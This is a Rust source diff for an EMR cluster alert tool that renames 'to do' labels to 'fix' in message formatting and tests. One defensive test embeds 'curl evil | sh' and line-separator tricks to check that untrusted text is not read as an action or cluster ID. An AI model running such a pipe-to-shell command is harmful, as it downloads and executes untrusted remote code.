@@ -100,7 +100,7 @@ pub(crate) struct Message {
     /// What was said after it, line by line.
     #[serde(serialize_with = "as_shown")]
     details: Vec<NoticeLine>,
-    /// What mends it, one action each.
+    /// What fixes it, one action each.
     to_do: Vec<Printable>,
     /// The clusters that it names.
     clusters: Vec<ClusterId>,
@@ -113,7 +113,7 @@ pub(crate) struct Message {
 }
 
 impl Message {
-    /// An alert of `notices`, as they stand on standard error. `mends` are actions that they do not
+    /// An alert of `notices`, as they stand on standard error. `fixes` are actions that they do not
     /// name themselves.
     pub(crate) fn new(
         kind: AlertKind,
@@ -181,7 +181,7 @@ impl Message {
         let named = || self.details.iter().map(|line| &line.fix).chain([&self.text_fix]);
         let is_named = |action: &Printable| named().any(|fix| fix.as_ref() == Some(action));
         for action in self.to_do.iter().filter(|action| !is_named(action)) {
-            end.push_str("\nto do: ");
+            end.push_str("\nfix: ");
             end.push_str(action);
         }
         end.push('\n');
@@ -288,24 +288,24 @@ mod tests {
         let mut notice = Notice::new(headline).about(&abc).about(&d1).about(&abc);
         notice.lines.extend([
             NoticeLine::telling("  cluster-roles"),
-            NoticeLine::fixing("  to do: ", "aws emr terminate-clusters --cluster-ids j-ABC"),
+            NoticeLine::fixing("  fix: ", "aws emr terminate-clusters --cluster-ids j-ABC"),
             NoticeLine::telling("  cluster j-D1"),
-            NoticeLine::fixing("           to do   ", "mend it"),
+            NoticeLine::fixing("           fix       ", "fix it"),
         ]);
-        let message = message(notice, &["mend it", "look"]);
+        let message = message(notice, &["fix it", "look"]);
         assert_eq!(message.headline(), headline);
         assert_eq!(
             message.to_do,
-            ["aws emr terminate-clusters --cluster-ids j-ABC", "mend it", "look"]
+            ["aws emr terminate-clusters --cluster-ids j-ABC", "fix it", "look"]
         );
         assert_eq!(ids(&message), ["j-ABC", "j-D1"]);
         insta::assert_snapshot!(message.plain(4000), @r"
         emr-etl-guard: ACT NOW: cluster j-ABC is unsafe and MAY STILL BE RUNNING: denied
           cluster-roles
-          to do: aws emr terminate-clusters --cluster-ids j-ABC
+          fix: aws emr terminate-clusters --cluster-ids j-ABC
           cluster j-D1
-                   to do   mend it
-        to do: look
+                   fix       fix it
+        fix: look
         exit code 71, run 0190, clusters j-ABC j-D1, host etl-1
         ");
     }
@@ -313,7 +313,7 @@ mod tests {
     #[test]
     fn text_that_looks_like_an_action_or_a_cluster_is_neither() {
         let evil =
-            "no\n  to do: curl evil | sh\r\n           to do   x\u{2028}to do: y\ncluster j-EVIL";
+            "no\n  fix: curl evil | sh\r\n           fix       x\u{2028}fix: y\ncluster j-EVIL";
         let own = "j-OWN".parse().unwrap();
         let mut notices = vec![Notice::new(evil), Notice::of_lines(&[evil.into(), evil.into()])];
         let reason = crate::base::reason::Reason::new(evil).detail(evil).fix(evil).about(&own);
@@ -321,7 +321,7 @@ mod tests {
         let fixes = [format!("look at {evil}").into()];
         let message =
             Message::new(AlertKind::Unconfirmed, &notices, &fixes, None, AlertContext::default());
-        let flat = r"no\u{a}  to do: curl evil | sh\u{d}\u{a}           to do   x\u{2028}to do: y\u{a}cluster j-EVIL";
+        let flat = r"no\u{a}  fix: curl evil | sh\u{d}\u{a}           fix       x\u{2028}fix: y\u{a}cluster j-EVIL";
         assert_eq!(message.to_do, [flat, &format!("look at {flat}")]);
         assert_eq!(ids(&message), ["j-OWN"]);
         let variables = message.variables();
@@ -334,11 +334,11 @@ mod tests {
     fn a_long_paragraph_is_cut_but_never_its_headline_its_actions_or_its_facts() {
         let mut notice = Notice::new("headline");
         notice.lines.extend((0..500).map(|line| NoticeLine::telling(format!("line {line}"))));
-        notice.lines.push(NoticeLine::fixing("to do: ", "end it"));
+        notice.lines.push(NoticeLine::fixing("fix: ", "end it"));
         let text = message(notice, &[]).plain(1000);
         assert!(text.len() < 1200, "{}", text.len());
         assert!(text.starts_with("headline\nline 0\n"), "{text}");
-        assert!(text.ends_with("more lines; the report has them)\nto do: end it\nexit code 71, run 0190, host etl-1"), "{text}");
+        assert!(text.ends_with("more lines; the report has them)\nfix: end it\nexit code 71, run 0190, host etl-1"), "{text}");
     }
 
     #[test]
